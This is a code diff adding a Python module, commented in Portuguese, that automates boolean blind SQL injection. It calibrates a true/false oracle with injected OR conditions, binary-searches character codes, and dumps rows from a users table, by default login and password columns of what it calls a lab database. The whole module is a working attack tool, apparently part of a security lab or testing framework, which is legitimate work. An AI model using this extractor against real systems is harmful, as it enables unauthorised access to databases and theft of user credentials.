@@ -0,0 +1,214 @@
+import threading
+from typing import Dict, List, Optional
+
+import requests
+
+from attacks.baseline import BaselineProfile
+from concurrency import bounded_map
+from events import EventLog
+
+# Formas de fechar o campo vulnerável e anexar a condição (testadas em ordem)
+INJECTION_TEMPLATES = [
+    "' OR ({condition})#",
+    "\" OR ({condition})#",
+    "') OR ({condition})#",
+]
+CALIBRATION_SAMPLES = 2        # Respostas por lado (verdadeiro/falso) na calibração
+ASCII_MAX = 127                # Faixa inicial da busca binária: 7 requisições por caractere
+CODE_MAX = 0xFFFFFFFF          # ORD() de caracteres UTF-8 multibyte (até 4 bytes)
+MAX_LENGTH = 1023
+MAX_ROWS = 1000
+
+# Tabela de usuários do banco do laboratório (db/banco.sql)
+LAB_TABLE = "Forum.Usuario"
+LAB_COLUMNS = ["Login", "Senha"]
+LAB_ORDER_BY = "IdUsuario"
+
+
+class BlindExtractionError(Exception):
+    """A injeção não permitiu distinguir respostas verdadeiras de falsas."""
+
+
+class BlindExtractionCancelled(BlindExtractionError):
+    """O Pacer foi cancelado (job cancelado ou tempo limite) durante a extração."""
+
+
+class BlindExtractor:
+    """
+    Extração de dados por SQL Injection blind booleana.
+
+    Cada pergunta é uma condição SQL injetada no campo vulnerável; a
+    resposta é classificada como verdadeira ou falsa comparando-a com dois
+    BaselineProfile (condição sempre verdadeira / sempre falsa) montados na
+    calibração. Valores numéricos (quantidade de linhas, tamanho, código de
+    cada caractere) são descobertos por busca binária, e as posições de
+    um valor são extraídas em paralelo.
+
+    Todas as threads compartilham o pool de conexões do SessionManager.
+    Com a sessão autenticada, cada uma recebe uma cópia dos cookies dela
+    (pontos de injeção atrás do login); o PHP então serializa as requisições
+    da mesma sessão. Sem autenticação, cada thread usa um cookie jar
+    próprio e as requisições seguem em paralelo.
+    """
+
+    def __init__(self, session_manager, url: str, field: str, base_data: Dict[str, str],
+                 pacer=None, workers: int = 4, add_log=print, method: str = "POST",
+                 events: Optional[EventLog] = None):
+        self.session_manager = session_manager
+        self.url = url
+        self.method = method.upper()
+        self.field = field
+        self.base_data = dict(base_data)
+        self.pacer = pacer
+        self.workers = max(1, int(workers))
+        self.add_log = add_log
+        self.events = events or EventLog()
+
+        self.template: Optional[str] = None
+        self.true_profile: Optional[BaselineProfile] = None
+        self.false_profile: Optional[BaselineProfile] = None
+        self.requests = 0
+        self.ambiguous = 0
+
+        self._local = threading.local()
+        self._lock = threading.Lock()
+
+    # --- Transporte ---
+
+    def _session(self):
+        session = getattr(self._local, "session", None)
+        if session is None:
+            shared = self.session_manager.session
+            session = requests.Session()
+            session.headers.update(shared.headers)
+            for prefix, adapter in shared.adapters.items():
+                session.mount(prefix, adapter)
+            if self.session_manager.is_authenticated:
+                session.cookies.update(shared.cookies)
+            self._local.session = session
+        return session
+
+    def _send(self, condition: str, template: Optional[str] = None):
+        data = dict(self.base_data)
+        data[self.field] = (template or self.template).format(condition=condition)
+        self._local.payload = data[self.field]
+        if self.pacer is not None:
+            # Cancelado, o Pacer não espera mais: para antes de disparar a requisição
+            if self.pacer.cancelled:
+                raise BlindExtractionCancelled("Extração blind cancelada")
+            self.pacer.wait()
+        try:
+            if self.method == "GET":
+                response = self._session().get(self.url, params=data, allow_redirects=True, timeout=15)
+            else:
+                response = self._session().post(self.url, data=data, allow_redirects=True, timeout=15)
+        except Exception as e:
+            if self.pacer is not None:
+                self.pacer.record(error=e)
+            raise
+        if self.pacer is not None:
+            self.pacer.record(response)
+        with self._lock:
+            self.requests += 1
+        return response
+
+    # --- Oráculo verdadeiro/falso ---
+
+    def calibrate(self) -> str:
+        """Escolhe o template de injeção cujas respostas a 1=1 e 1=0 são distinguíveis."""
+        for template in INJECTION_TEMPLATES:
+            true_responses = [self._send("1=1", template) for _ in range(CALIBRATION_SAMPLES)]
+            false_responses = [self._send("1=0", template) for _ in range(CALIBRATION_SAMPLES)]
+            true_profile = BaselineProfile(true_responses)
+            false_profile = BaselineProfile(false_responses)
+
+            separable = (all(false_profile.compare(r) for r in true_responses)
+                         and all(true_profile.compare(r) for r in false_responses))
+            if separable:
+                self.template = template
+                self.true_profile, self.false_profile = true_profile, false_profile
+                self.add_log(f"🎚️ Oráculo calibrado com template {template!r}")
+                return template
+
+        raise BlindExtractionError(
+            f"Respostas verdadeiras e falsas indistinguíveis em '{self.field}' ({self.url})"
+        )
+
+    def _classify(self, response) -> Optional[bool]:
+        differs_from_true = bool(self.true_profile.compare(response))
+        differs_from_false = bool(self.false_profile.compare(response))
+        if differs_from_false and not differs_from_true:
+            return True
+        if differs_from_true and not differs_from_false:
+            return False
+        return None
+
+    def ask(self, condition: str) -> bool:
+        """Avalia uma condição SQL no alvo (repete uma vez se a resposta for ambígua)."""
+        for _ in range(2):
+            response = self._send(condition)
+            verdict = self._classify(response)
+            self.events.emit("blind", {True: "true", False: "false"}.get(verdict, "ambiguous"),
+                             url=self.url, field=self.field, payload=self._local.payload,
+                             response=response)
+            if verdict is not None:
+                return verdict
+            with self._lock:
+                self.ambiguous += 1
+        raise BlindExtractionError(f"Resposta ambígua para a condição: {condition}")
+
+    # --- Busca binária ---
+
+    def bisect(self, expression: str, low: int, high: int) -> int:
+        """Valor inteiro de expression em [low, high] com ~log2(high - low) perguntas."""
+        while low < high:
+            mid = (low + high) // 2
+            if self.ask(f"({expression})>{mid}"):
+                low = mid + 1
+            else:
+                high = mid
+        return low
+
+    def extract_char(self, expression: str, position: int) -> str:
+        code_expression = f"ORD(SUBSTRING({expression},{position},1))"
+        code = self.bisect(code_expression, 0, ASCII_MAX)
+        if code == ASCII_MAX:
+            # Fora do ASCII: ORD() devolve os bytes UTF-8 do caractere
+            code = self.bisect(code_expression, ASCII_MAX, CODE_MAX)
+        if code <= ASCII_MAX:
+            return chr(code)
+        return code.to_bytes((code.bit_length() + 7) // 8, "big").decode("utf-8", errors="replace")
+
+    def extract_value(self, expression: str) -> str:
+        """Extrai o texto de uma expressão SQL (tamanho primeiro, posições em paralelo)."""
+        length = self.bisect(f"CHAR_LENGTH({expression})", 0, MAX_LENGTH)
+        chars = [""] * length
+        for position, char, error in bounded_map(lambda p: self.extract_char(expression, p),
+                                                 range(1, length + 1), self.workers):
+            if error is not None:
+                raise error
+            chars[position - 1] = char
+        return "".join(chars)
+
+    def dump_table(self, table: str = LAB_TABLE, columns: Optional[List[str]] = None,
+                   order_by: str = LAB_ORDER_BY, max_rows: int = 10) -> List[Dict[str, str]]:
+        """Extrai as colunas indicadas das primeiras max_rows linhas da tabela."""
+        columns = columns or LAB_COLUMNS
+        if self.template is None:
+            self.calibrate()
+
+        count = self.bisect(f"SELECT COUNT(*) FROM {table}", 0, MAX_ROWS)
+        self.add_log(f"🧮 {table}: {count} linhas")
+
+        rows = []
+        try:
+            for row in range(min(count, max_rows)):
+                values = {}
+                for column in columns:
+                    expression = f"(SELECT {column} FROM {table} ORDER BY {order_by} LIMIT {row},1)"
+                    values[column] = self.extract_value(expression)
+                    self.add_log(f"🔓 Linha {row + 1} - {column}: {values[column]}")
+                rows.append(values)
+        except BlindExtractionCancelled:
+            self.add_log(f"⛔ Extração blind cancelada: {len(rows)} linhas completas mantidas")
+        return rows